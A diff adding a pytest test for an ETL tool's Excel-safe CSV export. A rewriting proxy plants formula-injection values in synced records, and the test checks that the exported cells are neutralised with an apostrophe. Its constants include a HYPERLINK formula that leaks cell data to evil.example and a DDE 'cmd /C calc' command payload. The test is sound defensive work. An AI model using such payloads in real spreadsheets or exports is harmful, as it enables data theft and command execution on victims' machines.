@@ -1,0 +1,100 @@
+"""Exports of what a hostile server sent: formula-like values in columns of every type."""
+
+from __future__ import annotations
+
+import csv
+
+import pytest
+from helpers_mirror import rows
+from rewriting_proxy import RewritingProxy
+
+from etl.cli import main
+from etl.export import PLAIN_NUMBER, TABLES
+from etl.sandbox import Sandbox
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+COMMAND = "+cmd|' /C calc'!A0"
+
+
+def plant_formulas(path: str, document) -> None:
+    """Formula-like text in text, number and time fields of every kind of record."""
+    embedded = document.get("_embedded") if isinstance(document, dict) else None
+    if not isinstance(embedded, dict):
+        return
+    for conversation in embedded.get("conversations", []):
+        conversation["number"] = COMMAND
+        if conversation.get("closedAt"):
+            conversation["closedAt"] = HYPERLINK
+        for field in conversation.get("customFields") or []:
+            field.update(value="-2+3", text="")
+        for thread in (conversation.get("_embedded") or {}).get("threads", []):
+            thread["createdAt"] = "\t=1+1"
+    for customer in embedded.get("customers", []):
+        customer["createdAt"] = "-1+1"
+        customer["firstName"] = "=cmd"
+    for user in embedded.get("users", []):
+        user["createdAt"] = "@now"
+        user["jobTitle"] = "-5"  # a plain number: a spreadsheet reads it as -5, no formula
+    for mailbox in embedded.get("mailboxes", []):
+        mailbox["createdAt"] = "+1"  # a plain number too, though in a time column
+        mailbox["name"] = "\r=1"
+
+
+def run(capsys, *args):
+    with pytest.raises(SystemExit) as exit_info:
+        main(list(args))
+    captured = capsys.readouterr()
+    return exit_info.value.code, captured.out, captured.err
+
+
+def read(path):
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        header, *body = list(csv.reader(handle))
+    return [dict(zip(header, row, strict=True)) for row in body]
+
+
+def test_excel_csv_neutralises_formulas_in_number_time_and_text_columns(tmp_path, capsys):
+    db = str(tmp_path / "mirror.db")
+    with (
+        Sandbox(seed=7, conversations=60) as sandbox,
+        RewritingProxy(sandbox.url, plant_formulas) as proxy,
+    ):
+        code, out, err = run(
+            capsys, "sync", "--url", proxy.url, "--api-key", sandbox.api_key, "--db", db
+        )
+    assert code == 0, err
+    # The mirror keeps what was sent, and the sync says how many timestamps it kept as text.
+    closed = rows(db, "SELECT count(*) FROM conversations WHERE closed_at = ?", (HYPERLINK,))
+    kept = rows(
+        db,
+        "SELECT (SELECT count(*) FROM conversations WHERE closed_at IS NOT NULL)"
+        " + (SELECT count(*) FROM threads) + (SELECT count(*) FROM customers)"
+        " + (SELECT count(*) FROM users) + (SELECT count(*) FROM mailboxes)",
+    )[0][0]
+    assert closed[0][0] >= 5
+    assert f"{kept:,} timestamps the server sent did not parse: kept as text, as sent" in out
+
+    out_dir = tmp_path / "csv"
+    code, _, err = run(
+        capsys, "export", "--db", db, "--format", "csv", "--excel", "--out", str(out_dir)
+    )
+    assert code == 0, err
+    sheets = {table: read(out_dir / f"{table}.csv") for table in TABLES}
+    for table, records in sheets.items():
+        for record in records:
+            for column, cell in record.items():
+                if cell.startswith(TRIGGERS):
+                    assert PLAIN_NUMBER.fullmatch(cell), (table, column, cell)
+    conversations, threads = sheets["conversations"], sheets["threads"]
+    assert {r["number"] for r in conversations} == {"'" + COMMAND}
+    assert sum(r["closed_at"] == "'" + HYPERLINK for r in conversations) == closed[0][0]
+    assert {r["conversation_number"] for r in threads} == {"'" + COMMAND}
+    assert {r["created_at"] for r in threads} == {"'\t=1+1"}
+    assert "'-2+3" in {r["Vendor"] for r in conversations}  # a custom field's text
+    assert {r["created_at"] for r in sheets["customers"]} == {"'-1+1"}
+    assert {r["first_name"] for r in sheets["customers"]} == {"'=cmd"}
+    assert {r["created_at"] for r in sheets["users"]} == {"'@now"}
+    assert {r["job_title"] for r in sheets["users"]} == {"-5"}
+    assert {r["created_at"] for r in sheets["mailboxes"]} == {"+1"}
+    assert {r["name"] for r in sheets["mailboxes"]} == {"'\r=1"}
